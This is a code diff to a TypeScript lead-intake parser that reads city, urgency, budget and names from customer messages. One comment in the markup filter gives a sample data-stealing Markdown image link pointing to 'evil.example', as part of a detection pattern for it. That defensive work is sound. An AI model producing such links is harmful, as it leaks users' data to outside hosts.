@@ -527,17 +527,33 @@ export function readCity(text: string, { askedFor }: { askedFor?: IntakeSlot } =
           (askedFor === 'zip' || !isKnownFirstName(key, { popular: false })) &&
           /^[\s"'(]*$/.test(text.slice(0, start)) &&
           /^[\s.!,)]*$/.test(text.slice(end))
+        // (a town that is also a first name, in a sentence of its own closing the message, is the
+        // town: "… want a second opinion. Marianna"; the name reader leaves a place there)
         const ownSentence =
-          !isKnownFirstName(key, { popular: false }) &&
+          (!isKnownFirstName(key, { popular: false }) || /^\s*[.!]?\s*$/.test(text.slice(end))) &&
           /^\p{Lu}/u.test(text.slice(start)) &&
           /(?:^|[.!?]\s+)$/.test(text.slice(0, start)) &&
           /^\s*(?:[.!,]|$)/.test(text.slice(end)) &&
           words.length > 1
-        // a town written as a name, closing the message after a comma ("unit 104, Sunrise"), unless it is a person's name too
+        // a town written as a name, closing the message or its sentence after a comma ("unit 104, Sunrise",
+        // "… galvanized pipes, Plantation. Budget …"), unless it is a person's name too
         const closesAsName =
-          !isKnownFirstName(key) && /^\p{Lu}/u.test(text.slice(start)) && /,\s*$/.test(text.slice(0, start)) && /^\s*[.!]?\s*$/.test(text.slice(end))
+          !isKnownFirstName(key) &&
+          /^\p{Lu}/u.test(text.slice(start)) &&
+          /,\s*$/.test(text.slice(0, start)) &&
+          (/\.$/.test(text.slice(start, end)) || /^\s*(?:[.!]|$)/.test(text.slice(end)))
         if (!cued && !alone && !ownSentence && !closesAsName) continue
       }
+      // one word of a longer proper name: "Century Village", "Destin Commons" (not "Naples FL", "Tampa Bay")
+      if (
+        length === 1 &&
+        text !== text.toUpperCase() &&
+        !/[.']$/.test(text.slice(start, end)) &&
+        /^ \p{Lu}\p{Ll}+/u.test(text.slice(end)) &&
+        !/^ (?:fl|fla|florida|county|area|beach|bay|metro)\b/i.test(text.slice(end)) &&
+        !index.has(`${key} ${normalizeText(/^ (\p{L}+)/u.exec(text.slice(end))![1]!)}`)
+      )
+        continue
       i += length - 1
       const after = text.slice(end, end + 40)
       const before = text.slice(Math.max(0, start - 60), start)
@@ -674,7 +690,10 @@ export function readUrgency(text: string, now: Date = new Date()): Urgency | und
         .slice(0, result.index)
         .split(/[.;!?]|,\s|\bbut\b|\bpero\b/)
         .at(-1) ?? ''
-    if (/\b(?:just|already|ago|last|since|bought|built|replaced|installed|fixed|did|had|was|were|compramos|compre|compro|fue|desde)\b/.test(clause)) continue
+    if (
+      /\b(?:just|already|ago|last|since|bought|built|replaced|installed|fixed|did|had|was|were|closed|moved|compramos|compre|compro|fue|desde)\b/.test(clause)
+    )
+      continue
     const days = (result.start.date().getTime() - now.getTime()) / 86_400_000
     if (days < -1) continue
     const monthLevel = !result.start.isCertain('day')
@@ -713,7 +732,7 @@ export function readUrgency(text: string, now: Date = new Date()): Urgency | und
     // "we'll do the rest next year": a time for the remaining work, not for this job
     if (/\b(?:the rest|the remainder|lo demas|el resto)\b[^.!?,]{0,20}$/.test(before)) return false
     // "can't spend more than 500 right now" says when they can pay, not when the job is
-    if (hit.urgency === 'immediate' && /\b(?:spend|afford|pay|budget|gastar|pagar)\b[^.!?,]*$/.test(before)) return false
+    if (hit.urgency === 'immediate' && /\b(?:spend|afford|pay|budget|have|got|gastar|pagar|tengo)\b[^.!?,]*$/.test(before)) return false
     return true
   })
   if (meant.length === 0) return undefined
@@ -796,13 +815,13 @@ const AMOUNT_WORDS: Record<string, number> = {
 /** Spanish hundreds and "mil" ("mil quinientos" is 1,500): amounts in words, read like digits. */
 const SPANISH_HUNDREDS = '(?:cien|doscientos|trescientos|cuatrocientos|quinientos|seiscientos|setecientos|ochocientos|novecientos)'
 const AMOUNT =
-  /(?<![\p{L}\d.,])(\$\s*)?(\d{1,3}(?:,\d{3})+(?:\.\d+)?|\d+(?:\.\d+)?|(?:a |an )?(?:couple(?: of)?|few|(?:twenty|thirty|forty|fifty|sixty|seventy|eighty|ninety)(?:[- ](?:one|two|three|four|five|six|seven|eight|nine))?|one|two|three|four|five|six|seven|eight|nine|ten|eleven|twelve|thirteen|fourteen|fifteen|sixteen|seventeen|eighteen|nineteen|un|dos|tres|cuatro|cinco|seis|siete|ocho|nueve|diez|quince|veinte|treinta|cuarenta|cincuenta|sesenta|setenta|ochenta|noventa|mil(?: (?:cien|doscientos|trescientos|cuatrocientos|quinientos|seiscientos|setecientos|ochocientos|novecientos))?|cien|doscientos|trescientos|cuatrocientos|quinientos|seiscientos|setecientos|ochocientos|novecientos)|a(?=\s))(?=[^\p{L}]|$|k\b|grand|thousand|mil\b|hundred|bucks|dollars|usd|dolares|racks|lucas|stacks)\s*(k\b|grand\b|thousand\b|mil\b|hundred\b|bucks\b|dollars\b|usd\b|dolares\b|racks?\b|lucas\b|stacks?\b)?(\+)?/gu
+  /(?<![\p{L}\d.,])(\$\s*)?(\d{1,3}(?:,\d{3})+(?:\.\d+)?(?!\d)|\d+(?:\.\d+)?(?!\d)|(?:a |an )?(?:couple(?: of)?|few|(?:twenty|thirty|forty|fifty|sixty|seventy|eighty|ninety)(?:[- ](?:one|two|three|four|five|six|seven|eight|nine))?|one|two|three|four|five|six|seven|eight|nine|ten|eleven|twelve|thirteen|fourteen|fifteen|sixteen|seventeen|eighteen|nineteen|un|dos|tres|cuatro|cinco|seis|siete|ocho|nueve|diez|quince|veinte|treinta|cuarenta|cincuenta|sesenta|setenta|ochenta|noventa|mil(?: (?:cien|doscientos|trescientos|cuatrocientos|quinientos|seiscientos|setecientos|ochocientos|novecientos))?|cien|doscientos|trescientos|cuatrocientos|quinientos|seiscientos|setecientos|ochocientos|novecientos)|a(?=\s))(?=[^\p{L}]|$|k\b|grand|thousand|mil\b|hundred|bucks|dollars|usd|dolares|racks|lucas|stacks)\s*(k\b|grand\b|thousand\b|mil\b|hundred\b|bucks\b|dollars\b|usd\b|dolares\b|racks?\b|lucas\b|stacks?\b)?(\+)?/gu
 const BUDGET_CUE =
   /\b(?:budget(?:ed)?|spend|spending|afford|pay|paying|willing|want to (?:spend|pay|keep it)|keep it|can do|up to|under|below|less than|no more than|not more than|max(?:imum)?|at most|around|about|roughly|approx(?:imately)?|have|got|looking at|hoping for|thinking|(?<!(?:me|nos) (?:dieron|dio|pasaron|mandaron) (?:un |el )?)presupuesto|gastar|pagar|hasta|menos de|no mas de|maximo|alrededor de|como|tengo|tenemos|unos|unas)\b/
 /** Words that only hedge an amount ("around", "como"): they make a number money, but do not outweigh a quote. */
 const HEDGE_CUE = /^(?:around|about|roughly|approx(?:imately)?|looking at|hoping for|thinking|alrededor de|como|unos|unas)$/
 const NOT_BUDGET_CUE =
-  /\b(?:quote[ds]?|quoting|estimate[ds]?|bids?|came in at|charged?|charging|paid|cost(?:s|ed)? (?:me|us|them)?|spent|last time|wants|asking|asked for|they said|(?:he|she|client|buyer|seller)s? (?:said|says)|cotiza(?:ron|cion)|cobra(?:ron)?|pague|costo|me pidieron|deductible|deducible|worth|value|appraised|sold for|price of the house|mortgage|bill|bills|factura|went (?:up )?from|adjuster'?s?|figure|report|lists|gift card|won|prize|field|cobro|me cobr\w+|les? di|les? pague|pagamos|credit|credito|save (?:me|us)|ahorrar(?:me|nos)?|(?:me|nos) (?:dieron|dio|pasaron|mandaron) (?:un |el )?presupuesto)\b/
+  /\b(?:quote[ds]?|quoting|estimate[ds]?|bids?|came in at|charged?|charging|paid|cost(?:s|ed)? (?:me|us|them)?|spent|last time|wants|asking|asked for|they said|(?:he|she|client|buyer|seller)s? (?:said|says)|cotiza(?:ron|cion)|cobra(?:ron)?|pague|costo|me pidieron|deductible|deducible|worth|value|appraised|sold for|price of the house|mortgage|bill|bills|factura|went (?:up )?from|adjuster'?s?|figure|report|lists|gift card|won|prize|field|cobro|me cobr\w+|les? di|les? pague|pagamos|credit|credito|save (?:me|us)|ahorrar(?:me|nos)?|fined|fine of|multa|assessment|assessed|closed on|service fee|deposit|(?:me|nos) (?:dieron|dio|pasaron|mandaron) (?:un |el )?presupuesto)\b/
 const ABOVE_CUE = /(?<!\b(?:no|not|spend|spending|pay|paying|gastar|pagar) )\b(?:over|more than|above|at least|mas de|minimum|min)\s*\$?\s*$/
 /** What a bare number counts (not money): "12 yrs old", "2200 sq ft", "14 agents", "12x16". */
 const NOT_MONEY_AFTER =
@@ -871,6 +890,8 @@ export function readBudget(
   const text = spanishAmountsAsDigits(message)
     .replace(/\(?\b\d{3}\)?[\s.-]?\d{3}[\s.-]\d{4}\b/g, (phone) => ' '.repeat(phone.length))
     .replace(/(?<=\d|\dk)ish\b/g, '   ')
+    // "12 000 $", "15 000 dollars": thousands spaced as French and Portuguese write them
+    .replace(/\b(\d{1,3}) (\d{3})(?=\s*(?:\$|dollars|dolares|usd|reais))/g, '$1,$2')
   let budget: BudgetRange | undefined
   // the answer to "what's your budget?" may be a bare number ("2000", "unos 3500"); so is a message
   // that is nothing but an amount ("7500", "$8k"), unless it is a ZIP or a year
@@ -930,7 +951,7 @@ export function readBudget(
         if (!isNumeric && unit !== 'hundred') return false
         if (NOT_MONEY_AFTER.test(after)) return false
         // a year or a ZIP is no amount at all, and starts no list of amounts ("33545 $350 max")
-        if (/^(?:19|20)\d{2}$/.test(number) && !answersBudget) return ((notAmount = true), false)
+        if (/^(?:19|20)\d{2}$/.test(number) && !answersBudget && low === null) return ((notAmount = true), false)
         if (/^\d{5}$/.test(number) && zipcodes.lookup(number) && !/budget|presupuesto/.test(before)) return ((notAmount = true), false)
         // a bare number is money right after a budget word ("budget maybe 1500", "tengo como 300"),
         // before "max" / "saved" / "for the repair", or as the answer to the budget question
@@ -1014,7 +1035,7 @@ const NOT_A_NAME = new Set(
   now today tonight tomorrow asap later soon anytime whenever info information help regards sincerely cheers best
   hola buenas buenos dear morning afternoon evening solo periodista reporter journalist why what who how idk dunno
   ps team company llc inc corp crew dept office manager admin owner's sir maam senor senora
-  nah skip pass whatever nothing none anonymous private prefer rather nobody thx pls plz lol lmao omg btw
+  nah skip pass whatever nothing none anonymous private prefer rather nobody thx pls plz lol lmao omg btw channel news station
   monday tuesday wednesday thursday friday saturday sunday lunes martes miercoles jueves viernes sabado domingo
   call text email phone cell tel mobile whatsapp reach llame llamar escribir
   snowbird snowbirds flipper wholesaler widow widower veteran vet retiree newbie transplant local native neighbor neighbour
@@ -1134,7 +1155,10 @@ export function readNameAt(raw: string): NameReading | undefined {
   }
   const othersBefore = (index: number) => OTHER_PERSON_NAME_BEFORE.test(normalizeText(text.slice(Math.max(0, index - 40), index)))
   // "my name is Lan", and "my name Lan" as people write it in a second language
-  for (const match of text.matchAll(/\b(?:my name(?:'s| is)?|name'?s|name is|name:|me llamo|mi nombre es)\s+/giu)) {
+  // … and in the other languages people write to Harper: "meu nome é", "je m'appelle", "mwen rele"
+  for (const match of text.matchAll(
+    /\b(?:my name(?:'s| is)?|name'?s|name is|name:|me llamo|mi nombre es|meu nome (?:é|e)|me chamo|je m'?appelle|mon nom est|mwen rele|non mwen se)\s+/giu,
+  )) {
     // "her name is Mrs. Alma Ruiz", "the client's name is …": someone else's
     if (
       othersBefore(match.index) ||
@@ -1194,7 +1218,7 @@ export function readNameAt(raw: string): NameReading | undefined {
   }
   // a sign-off: "- Ray", "— Luis, 954-555-0133", "Thank you. Walter", "Regards,\nTom Becker\n(813) …"
   const signOff =
-    /(?:^|[\s,.!])(?:(-+|—|–|~)|(?:thanks|thank you|thx|ty|gracias|regards|best regards|cheers|saludos|best|sincerely|atentamente|cordialmente|bendiciones)\s*[,.!]*)\s*([\p{L}][\p{L}'-]*(?:[ \t]+\p{Lu}[\p{L}'-]*){0,3})(?=\s*(?:[.!]?\s*$|[,(\n]))/giu
+    /(?:^|[\s,.!])(?:(-+|—|–|~)|(?:thanks|thank you|thx|ty|gracias|regards|best regards|cheers|saludos|best|sincerely|atentamente|cordialmente|bendiciones|merci|obrigad[oa]|grazie|danke|mesi)\s*[,.!]*)\s*([\p{L}][\p{L}'-]*(?:[ \t]+\p{Lu}[\p{L}'-]*){0,3})(?=\s*(?:[.!]?\s*$|[,(\n]))/giu
   for (const match of text.matchAll(signOff)) {
     const words = match[2]!.split(/\s+/)
     const rest = text.slice(match.index + match[0].length)
@@ -1220,8 +1244,11 @@ export function readNameAt(raw: string): NameReading | undefined {
     // a name beside its contact, joined by a dash: "Fort Myers - Ron Sheffield, 239-555-0191", "Fiona - fiona@…"
     // (emails are blanked to spaces here)
     const beside =
-      /(?:[-–—]\s*(\p{Lu}[\p{L}'-]+(?:[ \t]+\p{Lu}[\p{L}'-]+){0,3})[ \t]*,?[ \t]*|(?:^|[,;]\s*)(\p{Lu}[\p{L}'-]+(?:[ \t]+\p{Lu}[\p{L}'-]+){0,3})[ \t]*[-–—:][ \t]*)(?=\(?\d{3}\)?[\s.-]?\d{3}|\s{3,})/gu
+      /(?:[-–—]\s*(\p{Lu}[\p{L}'-]+(?:[ \t]+\p{Lu}[\p{L}'-]+){0,3})[ \t]*,?[ \t]*|(?:^|[,;.!?]\s*)(\p{Lu}[\p{L}'-]+(?:[ \t]+\p{Lu}[\p{L}'-]+){0,3})[ \t]*[-–—:][ \t]*)(?=\(?\d{3}\)?[\s.-]?\d{3}|\s{3,})/gu
     for (const match of text.matchAll(beside)) take(nameAt((match[1] ?? match[2])!.split(/\s+/), true), match.index, 1)
+    // a name after its number, closing the message: "Call me 954-555-0155 Marcos"
+    const afterPhone = /\(?\d{3}\)?[\s.-]?\d{3}[\s.-]\d{4}[ \t,]+(\p{Lu}[\p{L}'-]+(?:[ \t]+\p{Lu}[\p{L}'-]+)?)\s*[.!]?\s*$/u.exec(text)
+    if (afterPhone) take(nameAt(afterPhone[1]!.split(/\s+/), true), afterPhone.index + afterPhone[0].indexOf(afterPhone[1]!), 1)
   }
   // a name closing the message on its own: "toilet running nonstop. Tampa. Ray", "I'm the landlord, Pat", "Carmen"
   const closing = /(?:^|[.!?\n/]|,)\s*(\p{Lu}[\p{L}'-]+(?:[ \t]+\p{Lu}[\p{L}'-]+){0,3})\s*[.!]?\s*$/u.exec(text)
@@ -1350,7 +1377,8 @@ export function readReferringAgent(raw: string): AgentReading | undefined {
 
 const ADVERSARIAL = anyWord(ADVERSARIAL_PATTERNS)
 const ADVERSARIAL_SYMBOLS = new RegExp(ADVERSARIAL_SYMBOL_PATTERNS.join('|'), 'i')
-const MARKUP = /<\s*\/?\s*[a-z][a-z0-9-]*(?:\s[^<>]*)?>|<\s*(?:script|img|iframe|svg)\b/i
+// (and a Markdown image whose address would carry data away: "![img](https://evil.example/log?q=…)")
+const MARKUP = /<\s*\/?\s*[a-z][a-z0-9-]*(?:\s[^<>]*)?>|<\s*(?:script|img|iframe|svg)\b|!\[[^\]]*\]\(\s*https?:/i
 
 const PERSONAL_DATA = wordRegex(PERSONAL_DATA_WORDS)
 const DATA_REQUEST = anyWord(DATA_REQUEST_WORDS)
@@ -1629,6 +1657,9 @@ export function understandConversation(turns: UserTurn[], { now = new Date() }: 
   // a "consumer" that is only the rules' default (a trade and a need, nobody saying who they are):
   // a contractor offering their trade reads as one to the model ("we want to be a Harper vendor")
   if (!identity && intake.userType === 'consumer' && classifyUserType(written) === 'vendor') intake.userType = 'vendor'
+  // a contractor who names no trade ("I'm a contractor and want to join") offers none: the word
+  // "contractor" alone is no trade for a vendor
+  if (intake.userType === 'vendor' && intake.serviceType === 'General Contracting' && !strongJob) delete intake.serviceType
   // job seekers, press, spam and data grabs name trades and places without asking for a job there
   if (intake.userType === 'other') {
     // … unless they also ask for work of their own ("… also my dryer outlet doesn't work. 33755")
